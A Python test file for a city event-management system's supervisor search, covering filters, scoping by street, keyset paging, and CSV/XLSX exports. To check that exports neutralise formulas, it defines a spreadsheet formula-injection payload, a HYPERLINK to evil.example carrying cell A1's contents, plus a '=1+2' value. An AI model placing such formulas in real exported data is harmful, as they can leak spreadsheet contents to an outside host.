"""The supervisors' event search (issue 10, item 7): scope, every filter, keyset pages without
duplicates or gaps, the page and the API agreeing, CSV and XLSX exports (formulas neutralised,
Chinese headers, the cap), bad parameters refused with 400 in the page's language (no Temporal).

The store tests run on SQLite and, with WULIAN_TEST_DATABASE_URL set, on PostgreSQL (``any_db``).
"""

from __future__ import annotations

import codecs
import csv
import io
import re
from collections.abc import AsyncIterator, Sequence
from datetime import UTC, date, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa

from store import event_search, models
from store.db import Database
from store.event_search import EventSearch, SearchScope, parse_search
from store.org import OrgTree
from store.query_params import QueryError
from store.seed import load_organisation
from tests import webapp
from tests.conftest import drop_db, make_db, store_urls

NOW = datetime(2026, 6, 15, 4, 0, tzinfo=UTC)  # 12:00 in Asia/Shanghai
#: (event id, street, unit) of the events by place: street HS, another street ST, and two without a
#: location, one handled by HS's command centre and one by ST's.
PLACES = [("hs", "HS", "HS01-G1"), ("hs", "HS", "HS02"), ("st", "ST", "ST01-G1"), ("nolocation-hs", None, "CC-HS"),
          ("nolocation-st", None, "CC-ST"), ("dept-hs", "HS", "D-ZF")]
HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点我")'


def _event(n: int, *, street: str | None = "HS", unit: str | None = "HS01-G1", **values: Any) -> models.Event:
    created = values.pop("created_at", NOW - timedelta(hours=n))
    description = values.pop("description", f"事件 {n} 路灯不亮")
    address = values.pop("address", None)
    fields: dict[str, Any] = dict(
        event_id=f"EV-S{n:04d}", receipt_code=f"S{n:09d}", source="portal", category="SR-01", state="dispatched",
        stage="handling", tier="grid", grid="HS01-G1" if street == "HS" else None, community=None, street=street,
        unit=unit, created_at=created, updated_at=created, description=description, address=address,
        search_text=models.search_text(description, address),
    )
    fields.update(values)
    return models.Event(**fields)


async def _add(db: Database, events: list[models.Event], tasks: Sequence[models.Task] = ()) -> None:
    async with db.session() as session:
        session.add_all(events)
        await session.flush()
        session.add_all(tasks)
        await session.commit()


def _task(event: models.Event, status: str, due: datetime | None) -> models.Task:
    return models.Task(task_id=f"{event.event_id}.T{status}", event_id=event.event_id, kind="handle",
                       unit=event.unit or "", status=status, due_at=due, created_at=event.created_at,
                       **models.inbox_fields(status, due, event))


@pytest.fixture
async def db(any_db: Database) -> Database:
    await load_organisation(any_db)
    return any_db


async def _scope(db: Database, units: set[str] | None) -> SearchScope:
    org = await OrgTree.load(db)
    return SearchScope.of(set(org.units) if units is None else units, org)


async def _street_scope(db: Database, street: str) -> SearchScope:
    org = await OrgTree.load(db)
    return SearchScope.of(org.descendants(street), org)  # web.auth.scope_of for a street supervisor


async def _ids(db: Database, scope: SearchScope, params: dict[str, str]) -> list[str]:
    page = await event_search.search_page(db, scope, parse_search(params), now=NOW)
    return [h.event.event_id for h in page.rows]


# --- the store ------------------------------------------------------------------------------------

async def test_a_street_supervisor_sees_the_street_and_its_unlocated_cases_only(db: Database) -> None:
    events = [_event(i, street=street, unit=unit) for i, (_, street, unit) in enumerate(PLACES)]
    await _add(db, events)
    hs = await _street_scope(db, "HS")
    assert await _ids(db, hs, {}) == ["EV-S0000", "EV-S0001", "EV-S0003", "EV-S0005"]  # newest first
    assert await _ids(db, await _street_scope(db, "ST"), {}) == ["EV-S0002", "EV-S0004"]
    assert len(await _ids(db, await _scope(db, None), {})) == len(PLACES)  # the city: everything
    # Naming another street's unit or receipt code finds nothing outside the scope.
    assert await _ids(db, hs, {"unit": "ST01-G1"}) == []
    assert await _ids(db, hs, {"q": "S000000002"}) == []
    assert await event_search.count(db, hs, parse_search({}), now=NOW) == 4


async def test_each_filter(db: Database) -> None:
    late = NOW - timedelta(hours=1)
    events = [
        _event(0, category="SR-02", description="小区门口垃圾堆积", address="北苑路 3 号"),
        _event(1, unit="HS02", tier="community", state="closed", closed_at=NOW - timedelta(days=3)),
        _event(2, source="hotline", state="handling", rework_count=2),
        _event(3, state="handling", description="Noise AT NIGHT 50%_off"),
        _event(4, created_at=datetime(2026, 5, 1, 1, 0, tzinfo=UTC), state="closed",
               closed_at=datetime(2026, 5, 20, 2, 0, tzinfo=UTC)),
        _event(5, tier="street", unit="CC-HS", street=None, category="SR-02"),
    ]
    tasks = [_task(events[2], "claimed", late), _task(events[3], "open", NOW + timedelta(hours=2)),
             _task(events[1], "done", late)]  # a done task past its due time is not "overdue"
    await _add(db, events, tasks)
    city = await _scope(db, None)
    cases: list[tuple[dict[str, str], list[int]]] = [
        ({"q": "S000000003"}, [3]),  # a receipt code: exactly that event
        ({"q": "s-0000-00003"}, [3]),  # dashes, spaces and case do not matter
        ({"q": "垃圾"}, [0]),  # text in the description
        ({"q": "北苑路"}, [0]),  # text in the address
        ({"q": "noise at"}, [3]),  # case-insensitive
        ({"q": "50%_"}, [3]),  # LIKE's wildcards are plain characters
        ({"q": "0%"}, [3]),
        ({"category": "SR-02"}, [0, 5]),
        ({"unit": "HS02"}, [1]),
        ({"tier": "street"}, [5]),
        ({"state": "handling"}, [2, 3]),
        ({"source": "hotline"}, [2]),
        ({"created_from": "2026-05-01", "created_to": "2026-05-01"}, [4]),  # 09:00 local on 1 May
        ({"created_to": "2026-04-30"}, []),
        ({"closed_from": "2026-05-20", "closed_to": "2026-05-20"}, [4]),
        ({"closed_from": "2026-06-01"}, [1]),
        ({"overdue": "1"}, [2]),
        ({"overdue": "0", "state": "handling"}, [3]),
        ({"rework": "1"}, [2]),
        ({"rework": "0", "state": "handling"}, [3]),
        ({"category": "SR-02", "tier": "community"}, []),  # filters combine
        ({"state": "handling", "overdue": "1", "source": "hotline"}, [2]),
    ]
    for params, expected in cases:
        assert await _ids(db, city, params) == [f"EV-S{n:04d}" for n in expected], params
    page = await event_search.search_page(db, city, parse_search({"state": "handling"}), now=NOW)
    assert [(h.event.event_id, h.overdue) for h in page.rows] == [("EV-S0002", True), ("EV-S0003", False)]


async def test_keyset_pages_have_no_duplicates_or_gaps(db: Database) -> None:
    # 50 events in the street (some sharing one report time, so the tie-break matters) and 10 without a
    # location handled by its command centre: two branches merged on every page.
    same = NOW - timedelta(days=1)
    events = [_event(i, created_at=same if i % 4 == 0 else NOW - timedelta(minutes=7 * i)) for i in range(50)]
    events += [_event(100 + i, street=None, unit="CC-HS", created_at=NOW - timedelta(minutes=7 * i + 3))
               for i in range(10)]
    await _add(db, events)
    scope = await _street_scope(db, "HS")
    expected = sorted(events, key=lambda e: (e.created_at, e.event_id), reverse=True)
    seen: list[str] = []
    cursor: str | None = None
    pages = 0
    while True:
        params = {"limit": "7", **({"cursor": cursor} if cursor else {})}
        page = await event_search.search_page(db, scope, parse_search(params), now=NOW)
        seen += [h.event.event_id for h in page.rows]
        pages += 1
        cursor = page.next_cursor
        if cursor is None:
            break
    assert seen == [e.event_id for e in expected]  # every one once, in order
    assert pages == 9  # 60 rows: 8 full pages and 4 on the last
    assert await event_search.count(db, scope, parse_search({}), now=NOW, cap=20) == 21  # bounded: "more than 20"
    exported = [h.event.event_id async for h in event_search.export_rows(db, scope, parse_search({}), batch=8, now=NOW)]
    assert exported == seen


async def test_a_text_search_reads_a_bounded_window_and_goes_on_from_its_end(
        db: Database, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(event_search, "TEXT_WINDOW", 5)
    # 12 reports in the street and 3 without a location; only the 2nd and the 11th mention 井盖.
    events = [_event(i, description="井盖缺失" if i in (1, 10) else f"路灯 {i}") for i in range(12)]
    events += [_event(50 + i, street=None, unit="CC-HS", created_at=NOW - timedelta(hours=i, minutes=30))
               for i in range(3)]
    await _add(db, events)
    scope = await _street_scope(db, "HS")
    found: list[str] = []
    windows: list[datetime] = []
    cursor: str | None = None
    for _ in range(10):
        params = {"q": "井盖", **({"cursor": cursor} if cursor else {})}
        page = await event_search.search_page(db, scope, parse_search(params), now=NOW)
        found += [h.event.event_id for h in page.rows]
        if page.searched_to is not None:
            windows.append(page.searched_to)
        cursor = page.next_cursor
        if cursor is None:
            break
    assert found == ["EV-S0001", "EV-S0010"]  # each once, newest first, none missed
    assert windows and windows == sorted(windows, reverse=True)  # each page looked further back
    assert windows[0] == (NOW - timedelta(hours=4)).replace(tzinfo=UTC)  # the street's 5th newest
    first = parse_search({"q": "井盖"})
    assert await event_search.count(db, scope, first, now=NOW) == 1  # within the first window
    assert await event_search.count(db, scope, first, now=NOW, windowed=False) == 2
    exported = [h.event.event_id async for h in event_search.export_rows(db, scope, first, now=NOW)]
    assert exported == ["EV-S0001", "EV-S0010"]  # the export reads every window


async def test_the_export_is_refused_beyond_its_cap(db: Database) -> None:
    await _add(db, [_event(i) for i in range(6)])
    scope = await _scope(db, None)
    await event_search.check_export(db, scope, parse_search({}), cap=6)
    with pytest.raises(QueryError) as refused:
        await event_search.check_export(db, scope, parse_search({}), cap=5)
    assert refused.value.key == "search.err.too_many" and refused.value.values == {"cap": 5}


BAD = [
    {"state": "nope"}, {"tier": "planet"}, {"source": "fax"}, {"category": "SR 01"}, {"unit": "<b>"},
    {"created_from": "yesterday"}, {"created_to": "0001-01-01"}, {"closed_from": "2026-13-01"},
    {"created_from": "2026-02-02", "created_to": "2026-02-01"},
    {"closed_from": "2026-02-02", "closed_to": "2026-02-01"},
    {"overdue": "maybe"}, {"rework": "2"}, {"limit": "0"}, {"limit": "101"}, {"limit": "ten"}, {"limit": "9" * 40},
    {"q": "x" * 101}, {"cursor": "not-a-cursor"}, {"cursor": "WyIwMDAxLTAxLTAxVDAwOjAwOjAwKzE0OjAwIiwieCJd"},
    {"cursor": "WzEsMiwzXQ"},
]


def test_bad_parameters_are_refused_by_the_one_definition() -> None:
    for params in BAD:
        with pytest.raises(QueryError) as refused:
            parse_search(params)
        assert refused.value.key, params  # every refusal can be shown in the visitor's language
    search = parse_search({"q": " 垃圾 ", "overdue": "on", "rework": "0", "limit": "50", "created_from": "2026-01-02"})
    assert (search.q, search.overdue, search.rework, search.limit, search.created_from) == (
        "垃圾", True, False, 50, date(2026, 1, 2))
    assert parse_search(search.params()) == EventSearch(**{**search.__dict__, "limit": 25})


# --- the migration's backfill --------------------------------------------------------------------

@pytest.fixture(params=store_urls())
async def bare_db(request: pytest.FixtureRequest, tmp_path: Path) -> AsyncIterator[Database]:
    db = await make_db(request.param, tmp_path, create=False)
    yield db
    await drop_db(db)


async def test_revision_0012_backfills_the_search_text_of_old_events(bare_db: Database) -> None:
    await bare_db.upgrade("0011")
    async with bare_db.engine.begin() as conn:
        await conn.execute(sa.text(
            "INSERT INTO event (event_id, receipt_code, version, source, category, category_name, description,"
            " address, reporter_name, reporter_phone, state, stage, priority, paused, rework_count, returned_count,"
            " escalated_count, rating_comment, created_at, updated_at, tracking_key_hash, follower_count)"
            " VALUES ('EV-OLD', 'OLD0000001', 1, 'portal', 'SR-01', '', 'Street LIGHT 不亮', 'Beiyuan 路',"
            " '', '', 'dispatched', 'handling', 3, false, 0, 0, 0, '', :at, :at, '', 0)"), {"at": NOW})
    await bare_db.upgrade()
    scope = SearchScope(streets=None)
    assert [h.event.event_id for h in (await event_search.search_page(
        bare_db, scope, parse_search({"q": "light 不亮"}), now=NOW)).rows] == ["EV-OLD"]
    assert await _ids(bare_db, scope, {"q": "beiyuan"}) == ["EV-OLD"]


# --- the web: page, API, exports -----------------------------------------------------------------

@pytest.fixture
async def world(org_db: Database) -> Database:
    """Events of both streets, one with hostile text, one overdue."""
    events = [_event(i, street=street, unit=unit) for i, (_, street, unit) in enumerate(PLACES)]
    events.append(_event(9, description=HOSTILE, address="=1+2", created_at=NOW + timedelta(minutes=1)))
    events += [_event(20 + i, created_at=NOW - timedelta(days=2, minutes=i)) for i in range(30)]
    await _add(org_db, events, [_task(events[0], "open", datetime(2026, 1, 1, tzinfo=UTC))])
    return org_db


@pytest.fixture
def browser(world: Database, tmp_path: Path) -> webapp.Browser:
    return webapp.browsers(webapp.context(world, tmp_path))


def _row_ids(html: str) -> list[str]:
    return re.findall(r'<tr data-event="([^"]+)"', html)


async def test_page_and_api_agree_and_stay_in_scope(browser: webapp.Browser) -> None:
    async with browser() as http:
        headers = await webapp.api_login(http, "zx_hs")
        await webapp.page_login(http, "zx_hs")
        api_ids: list[str] = []
        page_ids: list[str] = []
        cursor = None
        while True:
            r = await http.get("/api/events", params={"limit": "10", **({"cursor": cursor} if cursor else {})},
                               headers=headers)
            assert r.status_code == 200, r.text
            api_ids += [e["event_id"] for e in r.json()["events"]]
            cursor = r.json()["next_cursor"]
            if cursor is None:
                break
        url: str | None = "/search?limit=10"
        while url:
            r = await http.get(url)
            assert r.status_code == 200
            page_ids += _row_ids(r.text)
            found = re.search(r'<a rel="next" href="([^"]+)"', r.text)
            url = found.group(1).replace("&amp;", "&") if found else None
        assert api_ids == page_ids and len(api_ids) == len(set(api_ids)) == 35  # 4 + 1 + 30
        assert not {"EV-S0002", "EV-S0004"} & set(api_ids)  # the other street's, never
        first = (await http.get("/search")).text
        assert 'href="/search"' in first.split("<main>")[0]  # in the navigation
        assert "共 35 条" in first and 'href="/events/EV-S0009"' in first
        assert 'class="overdue"' in first and "超期" in first
        assert "/search/export.xlsx" in first
        r = await http.get("/api/events", params={"q": "S000000002"}, headers=headers)  # ST's receipt code
        assert r.json()["events"] == []
        filtered = await http.get("/api/events", params={"unit": "CC-HS"}, headers=headers)
        assert [e["event_id"] for e in filtered.json()["events"]] == ["EV-S0003"]
        assert filtered.json()["events"][0]["state"] == "dispatched"


async def test_only_supervisors_search(browser: webapp.Browser) -> None:
    async with browser() as http:
        for username in ("wg_hs01_g1", "sq_hs01", "bm_zf", "pz_zf_hs"):
            headers = await webapp.api_login(http, username)
            for url in ("/api/events", "/api/events/export.csv", "/api/events/export.xlsx"):
                assert (await http.get(url, headers=headers)).status_code == 403, (username, url)
        assert (await http.get("/api/events")).status_code == 401
        assert (await http.get("/search", follow_redirects=False)).status_code == 302
        await webapp.page_login(http, "wg_hs01_g1")
        for url in ("/search", "/search/export.csv", "/search/export.xlsx"):
            assert (await http.get(url)).status_code == 403, url
        assert 'href="/search"' not in (await http.get("/inbox")).text  # no link in the navigation


async def test_city_supervisor_sees_both_streets(browser: webapp.Browser) -> None:
    async with browser() as http:
        r = await http.get("/api/events", params={"limit": "100"}, headers=await webapp.api_login(http, "zx_city"))
        ids = {e["event_id"] for e in r.json()["events"]}
        assert {"EV-S0002", "EV-S0004", "EV-S0003"} <= ids and len(ids) == 37


def _csv(body: bytes) -> list[list[str]]:
    assert body.startswith(codecs.BOM_UTF8)
    return list(csv.reader(io.StringIO(body[len(codecs.BOM_UTF8):].decode("utf-8"), newline="")))


def _xlsx(body: bytes) -> list[list[Any]]:
    openpyxl = pytest.importorskip("openpyxl")
    book = openpyxl.load_workbook(io.BytesIO(body))
    sheet = book.active
    assert sheet is not None
    return [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]


async def test_csv_and_xlsx_exports_hold_the_whole_result_safely(browser: webapp.Browser) -> None:
    async with browser() as http:
        await webapp.page_login(http, "zx_hs")
        page_csv = await http.get("/search/export.csv")
        page_xlsx = await http.get("/search/export.xlsx")
        api_csv = await http.get("/api/events/export.csv", headers=await webapp.api_login(http, "zx_hs"))
        narrow = await http.get("/search/export.csv", params={"q": "路灯", "created_to": "2026-06-13"})
    assert page_csv.status_code == page_xlsx.status_code == api_csv.status_code == 200
    assert page_csv.headers["content-type"].startswith("text/csv")
    assert page_xlsx.headers["content-type"].startswith("application/vnd.openxmlformats-officedocument")
    assert 'filename="events.xlsx"' in page_xlsx.headers["content-disposition"]
    rows, sheet = _csv(page_csv.content), _xlsx(page_xlsx.content)
    assert rows[0][:4] == ["回执码", "事件编号", "类别代码", "事件类别"] and "上报时间（Asia/Shanghai）" in rows[0]
    assert [list(map(str, r)) for r in sheet] == rows  # one set of cells for both formats
    assert api_csv.content == page_csv.content
    assert len(rows) == 1 + 35 and rows[1][0] == "S000000009"  # the whole result (all pages), newest first
    hostile = rows[1]
    assert hostile[rows[0].index("描述")] == "'" + HOSTILE and hostile[rows[0].index("地址")] == "'=1+2"
    for row in [*rows, *sheet]:  # no cell of either file starts as a formula
        assert not any(str(v).lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) for v in row)
    by_id = {r[1]: r for r in rows[1:]}
    assert by_id["EV-S0000"][rows[0].index("超期")] == "是" and by_id["EV-S0001"][rows[0].index("超期")] == "否"
    assert by_id["EV-S0000"][rows[0].index("状态")] == "已交办,待签收"
    assert [r[1] for r in _csv(narrow.content)[1:]] == [f"EV-S{20 + i:04d}" for i in range(30)]


async def test_an_export_beyond_the_cap_is_refused_with_it(browser: webapp.Browser,
                                                          monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(event_search, "EXPORT_CAP", 10)
    async with browser() as http:
        await webapp.page_login(http, "zx_hs")
        r = await http.get("/search/export.xlsx")
        assert r.status_code == 400 and "结果超过 10 条" in r.text
        r = await http.get("/api/events/export.csv", headers=await webapp.api_login(http, "zx_hs"))
        assert r.status_code == 400 and "more than 10 results" in r.json()["detail"]
        assert (await http.get("/search/export.csv", params={"unit": "CC-HS"})).status_code == 200


async def test_bad_parameters_give_400_in_the_pages_language(browser: webapp.Browser) -> None:
    async with browser() as http:
        headers = await webapp.api_login(http, "zx_hs")
        await webapp.page_login(http, "zx_hs")
        for params in BAD:
            page = await http.get("/search", params=params)
            assert page.status_code == 400, params
            reason = re.search(r'<p class="flash err" role="alert">([^<]+)</p>', page.text)
            assert reason and re.search(r"[\u4e00-\u9fff]", reason.group(1)), (params, page.text[-2000:])
            assert not re.search(r"\b(must|expected|params\.|search\.err)", reason.group(1)), reason.group(1)
            api = await http.get("/api/events", params=params, headers=headers)
            assert api.status_code == 400 and api.json()["detail"], params
            assert (await http.get("/search/export.csv", params=params)).status_code == 400, params
        r = await http.get("/search", params={"created_to": "yesterday"})
        assert "上报日期至：日期格式应为" in r.text
        r = await http.get("/search", params={"state": "nope"})
        assert "状态：须为以下之一" in r.text
        r = await http.get("/api/events", params={"created_to": "yesterday"}, headers=headers)
        assert r.json()["detail"] == "created_to: expected a date YYYY-MM-DD, got 'yesterday'"  # the parameter
        http.cookies.set("lang", "en")
        r = await http.get("/search", params={"limit": "0"})
        assert r.status_code == 400 and "page size: a whole number from 1 to 100" in r.text
